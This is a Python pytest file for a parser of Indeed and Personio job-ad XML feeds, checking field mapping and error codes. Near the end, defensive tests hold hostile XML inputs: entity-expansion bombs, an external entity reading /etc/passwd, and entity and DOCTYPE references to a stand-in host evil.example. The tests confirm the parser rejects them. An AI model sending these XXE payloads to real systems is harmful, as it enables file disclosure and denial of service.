"""Indeed's XML after docs.indeed.com/indeed-apply/xml-feed, Personio's after developer.personio.de."""

from __future__ import annotations

from datetime import date

import pytest

from openings.feeds import formats
from openings.feeds.draft import FeedDocument
from openings.feeds.reasons import FeedError
from storage.openings.openings import Salary
from tests.openings.feeds.reader import Read

INDEED = """<?xml version="1.0" encoding="utf-8"?>
<source>
  <publisher>ATS Name</publisher>
  <publisherurl>https://www.ats.example</publisherurl>
  <lastBuildDate>Fri, 10 Dec 2025 22:49:39 GMT</lastBuildDate>
  <job>
    <title><![CDATA[Nurse]]></title>
    <date><![CDATA[Fri, 19 Dec 2025 22:49:39 GMT]]></date>
    <referencenumber><![CDATA[unique123131]]></referencenumber>
    <requisitionid><![CDATA[req-1]]></requisitionid>
    <url><![CDATA[https://jobs.halmbeck.example/view?id=123131&src=feed]]></url>
    <company><![CDATA[Halmbeck]]></company>
    <city><![CDATA[Wien]]></city>
    <state><![CDATA[Wien]]></state>
    <country><![CDATA[AT]]></country>
    <postalcode><![CDATA[1010]]></postalcode>
    <email><![CDATA[jobs@halmbeck.example]]></email>
    <description><![CDATA[<p>You look after people.</p>]]></description>
    <salary><![CDATA[$50K - 60K per year]]></salary>
    <jobtype><![CDATA[fulltime, contract]]></jobtype>
    <category><![CDATA[Health]]></category>
    <experience><![CDATA[5+ years]]></experience>
    <expirationdate><![CDATA[2026-06-30]]></expirationdate>
    <remotetype><![CDATA[Hybrid remote]]></remotetype>
  </job>
</source>
"""

PERSONIO = """<?xml version="1.0" encoding="UTF-8"?>
<workzag-jobs>
  <position>
    <id>42</id>
    <subcompany>Halmbeck GmbH</subcompany>
    <office>München</office>
    <additionalOffices><office>Berlin</office><office>Remote</office></additionalOffices>
    <department>Pflege</department>
    <recruitingCategory>Gesundheit</recruitingCategory>
    <name>Pflegefachkraft (m/w/d)</name>
    <jobDescriptions>
      <jobDescription>
        <name>Ihre Aufgaben &amp; Ziele</name>
        <value><![CDATA[<ul><li>Pflegen</li><li>Dokumentieren</li></ul>]]></value>
      </jobDescription>
      <jobDescription><name>Ihr Profil</name><value><![CDATA[<p>Examen</p>]]></value></jobDescription>
    </jobDescriptions>
    <employmentType>permanent</employmentType>
    <seniority>experienced</seniority>
    <schedule>full-or-part-time</schedule>
    <yearsOfExperience>2-5</yearsOfExperience>
    <keywords>pflege</keywords>
    <occupation>nursing</occupation>
    <createdAt>2026-01-05T09:30:00+00:00</createdAt>
  </position>
</workzag-jobs>
"""


def test_an_indeed_feed_is_read_whole(read_feed: Read) -> None:
    [nurse] = read_feed("indeed", INDEED).contents
    assert (nurse.external_id, nurse.title, nurse.description) == ("unique123131", "Nurse", "You look after people.")
    assert [(place.city, place.country) for place in nurse.places] == [("Wien", "AT")]
    assert nurse.employment_types == ("full_time",)
    assert nurse.work_mode == "hybrid"
    assert nurse.salary == Salary(50000, 60000, "USD", "year")
    assert nurse.url == "https://jobs.halmbeck.example/view?id=123131&src=feed"
    assert (nurse.posted, nurse.valid_through) == (date(2025, 12, 19), date(2026, 6, 30))
    assert nurse.contact is not None
    assert nurse.contact.email == "jobs@halmbeck.example"


def test_a_personio_feed_is_read_whole(read_feed: Read) -> None:
    url = "https://halmbeck.jobs.personio.de/xml?language=de"
    [nurse] = read_feed("personio", PERSONIO, url=url).contents
    assert (nurse.external_id, nurse.title, nurse.language) == ("42", "Pflegefachkraft (m/w/d)", "de")
    assert nurse.description == "Ihre Aufgaben & Ziele\n- Pflegen\n- Dokumentieren\nIhr Profil\nExamen"
    assert [place.city for place in nurse.places] == ["München", "Berlin"]
    assert nurse.work_mode == "remote"
    assert nurse.employment_types == ("full_time", "part_time", "permanent")
    assert nurse.level == "experienced"
    assert nurse.url == "https://halmbeck.jobs.personio.de/job/42"
    assert nurse.posted == date(2026, 1, 5)


@pytest.mark.parametrize("format", ["indeed", "personio"])
def test_broken_xml_says_where(format: str) -> None:
    with pytest.raises(FeedError, match=r"^xml_tag line=2 column=\d+$"):
        formats.parse(format, FeedDocument("<source>\n<job></source>"))


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("", "empty"),
        (" \n", "empty"),
        ("<!doctype html><title>Log in</title>", "web_page"),
        ("<html><body><br></body></html>", "web_page"),
        ("Service unavailable", "not_xml"),
        ("<source><job><title>Nurse", "xml_cut_off"),
        ("<source><job", "xml_cut_off"),
        ("<source><title>Nurse&nbsp;</title></source>", "xml_entity"),
        ("<source><title>Nurse & Cook</title></source>", "xml_broken"),
    ],
)
def test_what_is_no_xml_says_what_it_is_instead(text: str, code: str) -> None:
    with pytest.raises(FeedError) as raised:
        formats.parse("indeed", FeedDocument(text))
    assert raised.value.reason.code == code


def test_another_root_says_what_was_expected() -> None:
    with pytest.raises(FeedError, match=r"^xml_root format=Indeed found=rss expected=source$"):
        formats.parse("indeed", FeedDocument("<rss/>"))
    with pytest.raises(FeedError, match=r"expected=workzag-jobs$"):
        formats.parse("personio", FeedDocument("<source/>"))


LAUGHS = """<!DOCTYPE source [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><source>&b;</source>"""
OUTSIDE = """<!DOCTYPE source [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<source><job><referencenumber>1</referencenumber><title>&x;</title></job></source>"""
PARAMETER = """<!DOCTYPE source [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><source/>"""


@pytest.mark.parametrize("attack", [LAUGHS, OUTSIDE, PARAMETER])
def test_xml_that_defines_entities_is_refused(attack: str) -> None:
    with pytest.raises(FeedError, match=r"^xml_defines_entities$"):
        formats.parse("indeed", FeedDocument(attack))


def test_a_document_type_outside_is_not_fetched() -> None:
    outside = '<!DOCTYPE source SYSTEM "http://evil.example/x.dtd"><source/>'
    assert formats.parse("indeed", FeedDocument(outside)).drafts == ()


def test_xml_nested_without_end_is_refused() -> None:
    with pytest.raises(FeedError, match=r"^xml_too_deep most=100$"):
        formats.parse("indeed", FeedDocument("<source>" + "<a>" * 100_000))


def test_xml_of_elements_without_number_is_refused() -> None:
    with pytest.raises(FeedError, match=r"^xml_too_many most=2000000$"):
        formats.parse("indeed", FeedDocument("<source>" + "<a/>" * 2_000_001 + "</source>"))
